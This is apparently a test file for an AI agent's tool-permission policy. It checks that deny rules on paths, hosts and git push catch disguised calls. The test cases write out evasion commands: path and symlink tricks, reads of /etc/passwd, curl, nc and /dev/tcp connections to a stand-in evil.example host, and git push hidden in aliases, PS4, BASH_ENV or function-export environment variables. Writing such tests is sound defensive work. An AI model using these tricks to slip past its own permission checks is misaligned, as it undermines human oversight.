/** Other ways to say what a rule is about. None of them may go unasked. */
import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as FileSystem from "effect/FileSystem"
import * as Schema from "effect/Schema"
import type { SettingsInput } from "../../src/config/Settings.ts"
import { Policy } from "../../src/policy/Policy.ts"
import { DataDirectory } from "../../src/storage/DataDirectory.ts"
import type * as Tool from "../../src/tool/Tool.ts"
import { catalogue } from "../../src/tools/Catalogue.ts"
import * as Fixtures from "../tool/Fixtures.ts"

const tools: ReadonlyMap<string, Tool.Any> = new Map(
  catalogue.flatMap(({ items }) => items.map(({ tool }) => [tool.name, tool] as const))
)

/** What the policy says of a call. `ROOT` stands for the folder of managed files. */
const decide = Effect.fnUntraced(function* (name: string, parameters: object) {
  const root = (yield* DataDirectory).file("files")
  const tool = tools.get(name) ?? assert.fail(name)
  const json: unknown = JSON.parse(JSON.stringify(parameters).replaceAll("ROOT", root))
  const decoded = yield* Schema.decodeUnknownEffect(Schema.toCodecJson(tool.parameters))(json)
  const asked = {
    tool: name,
    actions: tool.actionsOf(decoded),
    agent: "troupe",
    channel: "phone",
    thread: "phone:main",
    tainted: false
  }
  return (yield* (yield* Policy).judge(asked)).verdict.decision
})

const cases = (policy: NonNullable<SettingsInput["policy"]>, calls: ReadonlyArray<readonly [string, string, object]>) =>
  Effect.gen(function* () {
    for (const [expected, name, parameters] of calls) {
      assert.strictEqual(yield* decide(name, parameters), expected, `${name} ${JSON.stringify(parameters)}`)
    }
  }).pipe(Effect.provide(Fixtures.pipeline({ policy })))

const bash = (expected: string, command: string, more: object = {}) => [expected, "bash", { command, ...more }] as const

describe("a rule over paths", () => {
  it.effect("is about a file however its path is written", () =>
    cases({ rules: { kept: { decision: "deny", paths: ["private/**"] } } }, [
      ["deny", "read_file", { path: "private/a" }],
      ["deny", "read_file", { path: "ROOT/private/a" }],
      ["deny", "read_file", { path: "//ROOT/./private//a" }],
      ["deny", "write_file", { path: "ROOT/private/a", content: "x" }],
      ["deny", "delete_file", { path: "ROOT/private" }],
      ["ask", "delete_file", { path: "ROOT" }],
      ["deny", "move_file", { source_path: "ROOT/private/a", destination_path: "b" }],
      ["deny", "grep", { pattern: "x", path: "ROOT/private" }],
      ["ask", "grep", { pattern: "x" }],
      ["deny", "glob_files", { pattern: "private/*" }],
      ["deny", "pre_response", { kind: "text", attachments: [{ path: "private/a", type: "document" }] }],
      ["allow", "pre_response", { kind: "text" }],
      ["allow", "read_file", { path: "ROOT/public/a" }],
      bash("ask", "cat ROOT/private/a"),
      bash("ask", "cat ../files/private/a"),
      bash("ask", "cat a", { cwd: "private" }),
      bash("ask", "cat a", { cwd: "ROOT/private" }),
      bash("ask", "cat priv*/a"),
      bash("ask", "cd priv* && cat a"),
      bash("ask", "cat $PWD/private/a"),
      bash("ask", "tool --file=private/a"),
      bash("deny", "echo x > ROOT/private/a"),
      bash("deny", "echo x > a", { cwd: "private" }),
      bash("deny", "echo x > ../private/a", { cwd: "sub" }),
      bash("allow", "cat public/a")
    ])
  )

  it.effect("may name a path from the top", () =>
    cases({ rules: { kept: { decision: "deny", paths: ["/etc/**"] } } }, [
      ["deny", "read_file", { path: "/etc/passwd" }],
      ["allow", "read_file", { path: "etc/a" }],
      bash("ask", "cat /etc/../etc/passwd"),
      bash("deny", "cat < /etc/passwd")
    ])
  )
})

describe("a rule over hosts", () => {
  it.effect("is about a host without an address around it", () =>
    cases({ rules: { out: { decision: "deny", hosts: ["evil.example"] } } }, [
      bash("ask", "curl evil.example"),
      bash("ask", "nc evil.example 80"),
      bash("ask", "ssh me@EVIL.example"),
      bash("ask", "scp a evil.example:b"),
      bash("ask", "curl http://e{v,}il.example"),
      bash("deny", "echo > /dev/tcp/evil.example/80"),
      bash("allow", "curl good.example")
    ])
  )
})

describe("a rule over commands", () => {
  it.effect("is about what git makes of its words", () =>
    cases({ rules: { pushes: { decision: "deny", commands: ["git push"] } } }, [
      bash("ask", "git -c alias.x=push x"),
      bash("ask", "git -c alias.x='!git push' x"),
      bash("ask", "/usr/lib/git-core/git-push origin"),
      bash("ask", "test -v 'a[$(git push)]'"),
      bash("ask", "let 'a[$(git push)]=1'"),
      bash("ask", "printf -v 'a[`git push`]' x"),
      bash("ask", "PS4='$(git push)'; set -x; ls"),
      bash("ask", "shopt -s expand_aliases; alias g=git\ng push"),
      bash("ask", "ls", { env: { BASH_ENV: "x.sh" } }),
      bash("ask", "ls", { env: { "BASH_FUNC_ls%%": "() { git push; }" } }),
      bash("ask", "git x", { env: { GIT_CONFIG_COUNT: "1" } }),
      bash("allow", "ls", { env: { LANG: "C" } }),
      bash("allow", "git log --oneline")
    ])
  )
})

describe("a rule over paths, and links", () => {
  it.effect("is about what a link leads to, also inside of the root and for what does not exist yet", () =>
    Effect.gen(function* () {
      const files = yield* FileSystem.FileSystem
      const root = (yield* DataDirectory).file("files")
      yield* files.makeDirectory(`${root}/private`, { recursive: true })
      yield* files.writeFileString(`${root}/private/key`, "x")
      yield* files.symlink(`${root}/private`, `${root}/open`)
      yield* files.symlink(`${root}/private/key`, `${root}/note.txt`)
      assert.strictEqual(yield* decide("read_file", { path: "open/key" }), "deny")
      assert.strictEqual(yield* decide("read_file", { path: "note.txt" }), "deny")
      assert.strictEqual(yield* decide("write_file", { path: "open/new", content: "x" }), "deny")
      assert.strictEqual(yield* decide("bash", { command: "cat open/key" }), "ask")
      assert.strictEqual(yield* decide("read_file", { path: "other.txt" }), "allow")
    }).pipe(
      Effect.provide(Fixtures.pipeline({ policy: { rules: { own: { decision: "deny", paths: ["private/**"] } } } }))
    )
  )
})
